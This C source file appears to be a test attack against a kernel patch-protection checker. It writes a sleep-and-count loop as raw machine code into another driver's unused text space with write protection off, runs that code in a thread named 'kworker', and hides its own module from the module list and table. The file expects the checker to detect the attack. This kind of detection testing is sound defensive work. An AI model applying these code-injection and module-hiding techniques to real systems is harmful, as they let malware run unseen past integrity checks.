/* attack_a93_borrowed_text (A93): a hidden thread on a listed driver's
 * text slack. A hidden driver's kernel thread runs code the driver wrote
 * into another, listed driver's text. As attack_a73 it gets
 * thread_create and thread_sleep_ns from the built image, but the thread's
 * routine is a copy: a loop that sleeps 10 ms and counts, written (CR0.WP
 * off) into the unused end of vendor_sample's last text page. Then it
 * removes its own module record from the module list and the module
 * table. Every return address on the thread's stack lies in vendor_sample,
 * a listed module. Expected: 0x109 type 0x1 (every loaded driver's text
 * pages, whole, are hashed from its load on). */
#include "attack.h"

struct process;

typedef struct thread *(*thread_create_fn)(struct process *p, const char *name, void (*fn)(void *), void *arg);

volatile uint64_t printk_at, thread_sleep_at, thread_create_at;
static volatile uint64_t rounds;

static struct ktimer wait_timer;
static struct dpc wait_dpc;
static struct module *self;

/* mov rdi, 10000000; mov rax, SLEEP; call rax; mov rax, ROUNDS; lock inc qword [rax]; jmp start */
static const uint8_t loop_code[] = {
	0x48, 0xC7, 0xC7, 0x80, 0x96, 0x98, 0x00,             /* mov rdi, 10000000 */
	0x48, 0xB8, 0, 0, 0, 0, 0, 0, 0, 0,                   /* mov rax, SLEEP (offset 9) */
	0xFF, 0xD0,                                           /* call rax */
	0x48, 0xB8, 0, 0, 0, 0, 0, 0, 0, 0,                   /* mov rax, &rounds (offset 21) */
	0xF0, 0x48, 0xFF, 0x00,                               /* lock inc qword [rax] */
	0xEB, 0xDD,                                           /* jmp start (-35) */
};

static void attack(struct dpc *d, void *ctx)
{
	if (!thread_create_at || !thread_sleep_at || !printk_at)
		return;
	uint64_t slide = (uint64_t)&printk - printk_at;
	thread_create_fn create = (thread_create_fn)(thread_create_at + slide);
	uint64_t sleep = thread_sleep_at + slide;
	thread_create_at = 0;
	timer_cancel(&wait_timer);
	struct module *host = NULL;
	for (struct module *m = self->prev; m; m = m->prev)
		if (!strcmp(m->name, "vendor_sample"))
			host = m;
	uint64_t tend = host ? host->text + host->text_size : 0, end = (tend + 4095) & ~4095ull, at = (tend + 15) & ~15ull;
	if (!host || end - at < sizeof loop_code) {
		printk("attack_a93: no room at the end of vendor_sample's text\n");
		return;
	}
	uint8_t code[sizeof loop_code];
	memcpy(code, loop_code, sizeof code);
	uint64_t counter = (uint64_t)&rounds;
	memcpy(code + 9, &sleep, 8);
	memcpy(code + 21, &counter, 8);
	uint64_t pf = a_cli();
	a_write_protected((void *)at, code, sizeof code);
	if (!create(NULL, "kworker", (void (*)(void *))at, NULL)) {
		a_restore(pf);
		printk("attack_a93: thread_create failed\n");
		return;
	}
	a_hide_module(self, a_module_slot(self));
	printk("attack_a93: a kernel thread runs code written into vendor_sample's text; the driver hidden from the module list and table\n");
	a_patched("attack_a93");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	self = a_module_of(drv);
	dpc_init(&wait_dpc, attack, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 1000000ull, 1000000ull);
	printk("attack_a93: waiting for the addresses of thread_create and thread_sleep_ns\n");
	return KPP_STATUS_SUCCESS;
}
